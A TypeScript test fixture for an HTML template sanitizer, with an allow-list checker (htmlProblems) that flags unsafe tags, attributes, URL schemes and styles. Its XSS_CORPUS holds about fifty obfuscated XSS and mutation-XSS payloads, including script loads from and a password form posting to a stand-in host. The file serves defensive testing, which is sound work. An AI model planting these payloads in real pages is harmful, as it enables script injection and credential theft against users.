/**
 * Hostile HTML for the template tests (unit, integration and e2e): script in every disguise, event
 * handlers, script URLs (plain, entity-encoded, with control characters), data: URLs, CSS that runs or
 * escapes the message, embedded documents, forms, and mutation-XSS samples that rely on parsers
 * disagreeing.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onerror="alert(1)" onload="alert(2)">',
  '<IMG SRC="javascript:alert(1);">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">klik</text></a></svg>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(2)>klik</p>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href="  javascript:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="jav&#x0A;ascript:alert(1)">klik</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<a href="//evil.example/">klik</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="wachtwoord"><button>Verstuur</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>body{display:none}</style>',
  '<p style="color: expression(alert(1))">css</p>',
  '<p style="background-image: url(javascript:alert(1))">css</p>',
  '<p style="background: url(https://evil.example/track.png)">css</p>',
  '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">over alles</div>',
  '<div style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">css</div>',
  '<p style="color: red; x: expression(alert(1))">css</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td><a href="https://ok.example"><table><td></a><img src=x onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:absolute">link</a>',
];

const ALLOWED_TAG =
  /^(?:p|br|hr|div|span|blockquote|pre|code|b|strong|i|em|u|s|strike|sub|sup|small|mark|h[1-6]|ul|ol|li|dl|dt|dd|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td|a|img)$/;
const ALLOWED_ATTRIBUTE =
  /^(?:style|title|align|href|name|rel|target|src|alt|width|height|border|cellpadding|cellspacing|colspan|rowspan|valign|scope|span|start|type)$/;

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

/** A URL's scheme as a browser reads it (control characters and blanks are ignored), or '' for none. */
function scheme(url: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip these inside a scheme
  const compact = decode(url).replace(/[\u0000-\u0020]/g, '');
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(compact);
  return m ? m[1]!.toLowerCase() : '';
}

/**
 * What in an HTML fragment could run, load something or escape the message, read without a browser:
 * every '<' must open or close an allowed tag (a '<' in text comes out as &lt;), each tag has only
 * allowed attributes (no on…), links only http/https/mailto, images only https, and styles have no
 * url(), expression(), position, behaviour or binding. [] when harmless.
 */
export function htmlProblems(html: string): string[] {
  const problems: string[] = [];
  const TAG = /<(\/?)([^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g;
  if (/[<>]/.test(html.replace(TAG, ''))) problems.push('a raw < or > outside a tag');
  for (const [, , name, rest] of html.matchAll(TAG)) {
    if (!ALLOWED_TAG.test(name!.toLowerCase())) problems.push(`tag <${name}>`);
    for (const [, attribute, value = ''] of rest!.matchAll(/\s([^\s=/]+)(?:\s*=\s*"([^"]*)")?/g)) {
      if (!ALLOWED_ATTRIBUTE.test(attribute!)) problems.push(`attribute ${attribute} on <${name}>`);
      const s = scheme(value);
      if (attribute === 'href' && s !== '' && !['http', 'https', 'mailto'].includes(s))
        problems.push(`href ${s}:`);
      if (attribute === 'src' && s !== '' && s !== 'https') problems.push(`src ${s}:`);
      if (
        attribute === 'style' &&
        /expression|url\s*\(|position|behavior|binding|@import|\\/i.test(decode(value))
      ) {
        problems.push(`style ${value}`);
      }
    }
  }
  return problems;
}
